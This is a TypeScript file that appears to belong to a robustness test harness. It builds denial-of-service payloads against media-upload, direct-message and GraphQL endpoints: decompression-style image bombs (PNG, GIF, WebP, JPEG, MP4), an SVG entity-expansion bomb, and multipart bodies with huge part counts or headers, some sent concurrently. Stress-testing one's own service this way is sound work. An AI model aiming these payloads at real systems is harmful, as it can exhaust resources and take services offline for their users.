// Attacks with media whose size is hard to determine, and with multipart bodies of many parts.
import { type Attack, type Attacks, attacksOf, calls } from '../target.ts';

const MiB = 1024 * 1024;

function chunk(type: string, data: Buffer): Buffer {
  return Buffer.concat([lengthAndType(data.length, type), data, Buffer.alloc(4)]);
}
function box(type: string, data: Buffer): Buffer {
  return Buffer.concat([lengthAndType(8 + data.length, type), data]);
}
function lengthAndType(length: number, type: string): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(length);
  head.write(type, 4, 'latin1');
  return head;
}

const pngHead = Buffer.from('89504e470d0a1a0a', 'hex');
const ihdr = (width: number, height: number) => {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width);
  data.writeUInt32BE(height, 4);
  data.set([8, 6, 0, 0, 0], 8);
  return chunk('IHDR', data);
};

const gifHead = Buffer.from('474946383961 0100 0100 00 00 00'.replaceAll(' ', ''), 'hex');
const gifFrame = Buffer.from('2c0000000001000100000201440000'.padEnd(26, '0'), 'hex');

const ftyp = box('ftyp', Buffer.from('isom\0\0\x02\0isomiso2mp41', 'latin1'));
const nested = (depth: number) => {
  let inner: Buffer = Buffer.alloc(0);
  for (let i = 0; i < depth; i++) inner = box(i % 2 ? 'moov' : 'trak', inner);
  return inner;
};

function part(name: string, body: string, file?: string): string {
  const disposition = `form-data; name="${name}"${file ? `; filename="${file}"` : ''}`;
  return `--b\r\nContent-Disposition: ${disposition}\r\n\r\n${body}\r\n`;
}
const operations = part(
  'operations',
  JSON.stringify({
    query: 'mutation($f:Upload!){uploadMedia(input:{file:$f}){mediaId}}',
    variables: { f: null },
  }),
);
const map = part('map', '{"0":["variables.f"]}');
const manyPaths = JSON.stringify(Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [i, ['variables.f']])));

/** The media type and the beginning of a file, and a part that then fills `size` MiB. */
const files: Record<string, [type: string, head: Buffer, part?: Buffer, size?: number]> = {
  '15 MB of zeros': ['image/gif', Buffer.alloc(15 * MiB)],
  'PNG of 5 MB in empty chunks': [
    'image/png',
    Buffer.concat([pngHead, ihdr(1, 1)]),
    chunk('aaAa', Buffer.alloc(0)),
    4.9,
  ],
  'PNG of 4 billion pixels': ['image/png', Buffer.concat([pngHead, ihdr(65_535, 65_535)])],
  'GIF of a million frames': ['image/gif', gifHead, gifFrame, 14],
  'GIF of empty sub-blocks': ['image/gif', gifHead, Buffer.from([0x21, 0xfe, 1, 0, 0]), 14],
  'WebP of empty chunks': [
    'image/webp',
    Buffer.from('RIFF\xff\xff\x4f\0WEBPVP8X\x0a\0\0\0\x10\0\0\0\0\0\0\0\0\0', 'latin1'),
    Buffer.from('ABCD\0\0\0\0', 'latin1'),
    4.9,
  ],
  'JPEG of fill bytes': ['image/jpeg', Buffer.from([0xff, 0xd8]), Buffer.of(0xff), 4.9],
  'JPEG of empty segments': ['image/jpeg', Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from([0, 2, 0xff, 0xe1]), 4.9],
  'MP4 of a million boxes': ['video/mp4', ftyp, box('free', Buffer.alloc(0)), 14],
  'MP4 of 5,000 nested boxes': ['video/mp4', Buffer.concat([ftyp, nested(5_000)])],
  'SVG that expands': [
    'image/svg+xml',
    Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${'a'.repeat(1_000)}">]><svg>${'&a;'.repeat(500_000)}</svg>`,
    ),
  ],
};

const bodies: Record<string, () => string> = {
  '100,000 empty parts': () => `${operations}${part('x', '').repeat(100_000)}--b--\r\n`,
  '100,000 files': () => `${operations}${map}${part('0', '', 'a').repeat(100_000)}--b--\r\n`,
  '20 MB of boundaries that almost match': () =>
    `${operations}${map}${part('0', '\r\n-'.repeat(7 * MiB), 'a')}--b--\r\n`,
  'headers of 20 MB': () => `--b\r\n${'A: b\r\n'.repeat(3 * MiB)}\r\n\r\n--b--\r\n`,
  'map of 1 MB': () => `${operations}${part('map', manyPaths)}--b--\r\n`,
  'deep paths in map': () => {
    const deep = part('map', JSON.stringify({ 0: [`variables.${'f.'.repeat(400_000)}f`] }));
    return `${operations}${deep}${part('0', 'x', 'a')}--b--\r\n`;
  },
};

/** Builds the body when the attack begins, because all bodies together would need too much memory. */
const upload =
  (body: () => object, times = {}): Attack =>
  (target) =>
    calls('POST', '/media/upload', body(), times)(target);

export const attacks: Attacks = {
  'media: 24 MB of base64 that is none': upload(() => ({ media_data: '*'.repeat(23 * MiB), media_type: 'image/png' })),
  'media: 24 MB data: URI without a comma': upload(() => ({ media_data: `data:${'a;'.repeat(11 * MiB)}` })),
  'media: 23 MB of base64 with line breaks': upload(() => ({
    media_data: 'AAA\n'.repeat(5 * MiB),
    media_type: 'image/png',
  })),
  ...attacksOf('media: ', files, ([media_type, head, part, size = 0]) =>
    upload(() => {
      const rest = part ? Buffer.alloc(size * MiB, part) : Buffer.alloc(0);
      return { media_type, media_data: Buffer.concat([head, rest]).toString('base64') };
    }),
  ),
  'media: SVG of a million attributes': calls('POST', '/dm/send_media', {
    conversation_id: '1:2',
    encryption_code: '1234',
    type: 6,
    image_base64: Buffer.from(`<svg ${'a="b" '.repeat(700_000)}/>`).toString('base64'),
  }),
  'media: 8 uploads of 15 MB at once': upload(
    () => ({ media_data: Buffer.alloc(15 * MiB, 1).toString('base64'), media_type: 'image/gif' }),
    { count: 8, atOnce: 8 },
  ),
  ...attacksOf('multipart: ', bodies, (makeBody) => (target) => {
    const options = { body: makeBody(), headers: { 'content-type': 'multipart/form-data; boundary=b' } };
    return target.many(3, 1, () => target.send('POST', '/graphql', options));
  }),
};
